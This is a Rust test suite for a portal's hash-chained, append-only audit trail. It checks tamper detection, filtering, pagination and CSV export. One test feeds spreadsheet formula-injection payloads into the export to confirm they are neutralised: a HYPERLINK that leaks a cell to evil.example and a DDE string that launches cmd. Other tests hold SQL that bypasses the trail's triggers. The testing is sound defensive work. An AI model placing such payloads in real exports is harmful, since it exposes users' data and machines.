//! The audit trail: append-only, hash-chained, filterable, exportable.

use domain::model::AuditFilter;
use portal::prelude::*;
use portal::NewKey;
use store::Backend;
use stories::{admin, on_every_portal, portal, TestDb};

async fn seed_some(p: &dyn Portal) -> Vec<String> {
    let a = admin();
    let mut ids = Vec::new();
    for i in 0..5 {
        let k = p
            .create_key(
                &a,
                NewKey {
                    name: format!("k{i}"),
                    expires_in: None,
                },
                None,
            )
            .await
            .unwrap();
        ids.push(k.key.id.to_string());
    }
    p.revoke_key(&a, &ids[1], None).await.unwrap();
    ids
}

async fn the_trail_is_append_only(db: &TestDb) {
    let (p, _) = portal(db).await;
    seed_some(&*p).await;
    for sql in [
        "UPDATE audit_events SET action = 'x' WHERE seq = 1",
        "DELETE FROM audit_events WHERE seq = 2",
    ] {
        let err = sqlx::raw_sql(sql)
            .execute(db.store.pool())
            .await
            .expect_err("the application's connection must not rewrite the trail");
        assert!(err.to_string().contains("append-only"), "{err}");
    }
    if db.backend == Backend::Postgres {
        let err = sqlx::raw_sql("TRUNCATE audit_events")
            .execute(db.store.pool())
            .await
            .unwrap_err();
        assert!(err.to_string().contains("append-only"), "{err}");
    }
    assert_eq!(
        p.verify_audit(&admin(), None).await.unwrap().first_broken,
        None
    );
}

async fn a_hand_edit_is_reported_as_the_first_broken_link(db: &TestDb) {
    let (p, _) = portal(db).await;
    seed_some(&*p).await;
    let tamper = match db.backend {
        // A superuser can bypass the trigger; the chain still tells.
        Backend::Postgres => "SET session_replication_role = replica; UPDATE audit_events SET actor_name = 'mallory' WHERE seq = 4; SET session_replication_role = origin;",
        Backend::Sqlite => "DROP TRIGGER audit_events_no_update; UPDATE audit_events SET actor_name = 'mallory' WHERE seq = 4;",
    };
    db.superuser_exec(tamper).await;
    let report = p.verify_audit(&admin(), None).await.unwrap();
    let broken = report.first_broken.expect("the edit must be detected");
    assert_eq!(broken.seq, 4, "the first broken link is the edited event");
    assert_eq!(report.checked, 3);
}

async fn deleting_the_last_events_is_detected(db: &TestDb) {
    let (p, _) = portal(db).await;
    seed_some(&*p).await;
    let tamper = match db.backend {
        Backend::Postgres => "SET session_replication_role = replica; DELETE FROM audit_events WHERE seq = 7; SET session_replication_role = origin;",
        Backend::Sqlite => "DROP TRIGGER audit_events_no_delete; DELETE FROM audit_events WHERE seq = 7;",
    };
    db.superuser_exec(tamper).await;
    let report = p.verify_audit(&admin(), None).await.unwrap();
    assert_eq!(report.first_broken.map(|b| b.seq), Some(7));
}

async fn filters_pagination_and_csv(db: &TestDb) {
    let (p, clock) = portal(db).await;
    let ids = seed_some(&*p).await;
    clock.advance_secs(3600);
    let a = admin();
    p.revoke_key(&a, &ids[2], None).await.unwrap();
    let by_entity = p
        .list_audit(
            &a,
            AuditFilter {
                entity_type: Some("federation_key".into()),
                entity_id: Some(ids[1].clone()),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    let actions: Vec<_> = by_entity.items.iter().map(|e| e.action.as_str()).collect();
    assert_eq!(
        actions,
        vec!["revoke", "create"],
        "an entity's trail, newest first"
    );
    let revoke = &by_entity.items[0];
    assert_eq!(revoke.before.as_ref().unwrap()["status"], "active");
    assert_eq!(revoke.after.as_ref().unwrap()["status"], "revoked");
    assert!(
        revoke.before.as_ref().unwrap().get("name").is_none(),
        "only changed fields are kept"
    );
    assert_eq!(revoke.ip.as_deref(), Some("192.0.2.10"));
    let late = p
        .list_audit(
            &a,
            AuditFilter {
                from: Some(stories::T0.plus_secs(1800)),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    assert_eq!(late.items.len(), 1);
    let by_action = p
        .list_audit(
            &a,
            AuditFilter {
                action: Some("revoke".into()),
                actor: Some("alice".into()),
                ..Default::default()
            },
        )
        .await
        .unwrap();
    assert_eq!(by_action.items.len(), 2);
    let mut seqs = Vec::new();
    let mut cursor = None;
    loop {
        let page = p
            .list_audit(
                &a,
                AuditFilter {
                    limit: Some(2),
                    cursor: cursor.clone(),
                    ..Default::default()
                },
            )
            .await
            .unwrap();
        seqs.extend(page.items.iter().map(|e| e.seq));
        match page.next_cursor {
            Some(c) => cursor = Some(c),
            None => break,
        }
    }
    assert_eq!(
        seqs,
        vec![8, 7, 6, 5, 4, 3, 2, 1],
        "event 1 registered the master key"
    );
    let mut csv = Vec::new();
    let n = p
        .export_audit_csv(&a, AuditFilter::default(), &mut csv)
        .await
        .unwrap();
    assert_eq!(n, 8);
    let text = String::from_utf8(csv).unwrap();
    assert_eq!(text.lines().count(), 9, "a header and one line per event");
    assert!(text.starts_with("seq,id,ts,actor_id"));
    let empty = p
        .list_audit(
            &a,
            AuditFilter {
                from: Some(stories::T0),
                to: Some(stories::T0),
                ..Default::default()
            },
        )
        .await
        .expect("a range that ends where it starts is valid");
    assert!(
        empty.items.is_empty(),
        "nothing happened in an empty range, so nothing is listed"
    );
}

/// Values from outside (here an actor's name and user agent) are written into the CSV as text
/// a spreadsheet will not evaluate: OWASP's leading single quote.
async fn the_csv_export_neutralises_formulas(db: &TestDb) {
    let (p, _) = portal(db).await;
    let name = r#"=HYPERLINK("https://evil.example/?leak="&A1,"Open")"#;
    let a = domain::Actor {
        name: name.into(),
        ua: Some("-2+3+cmd|' /C calc'!A0".into()),
        ..admin()
    };
    let key = p
        .create_key(
            &a,
            NewKey {
                name: "@SUM(1,2)".into(),
                expires_in: None,
            },
            None,
        )
        .await
        .unwrap();
    let mut out = Vec::new();
    let n = p
        .export_audit_csv(
            &admin(),
            AuditFilter {
                entity_type: Some("federation_key".into()),
                entity_id: Some(key.key.id.to_string()),
                ..Default::default()
            },
            &mut out,
        )
        .await
        .unwrap();
    assert_eq!(n, 1);
    let mut csv = csv::Reader::from_reader(out.as_slice());
    let headers = csv.headers().unwrap().clone();
    let row = csv.records().next().unwrap().unwrap();
    let cell = |n: &str| row[headers.iter().position(|h| h == n).unwrap()].to_string();
    assert_eq!(cell("actor_name"), format!("'{name}"));
    for cell in &row {
        assert!(
            !cell.starts_with(domain::spreadsheet::FORMULA_TRIGGERS),
            "a cell a spreadsheet would evaluate: {cell:?}"
        );
    }
}

on_every_portal!(
    the_trail_is_append_only,
    a_hand_edit_is_reported_as_the_first_broken_link,
    deleting_the_last_events_is_detected,
    filters_pagination_and_csv,
    the_csv_export_neutralises_formulas
);
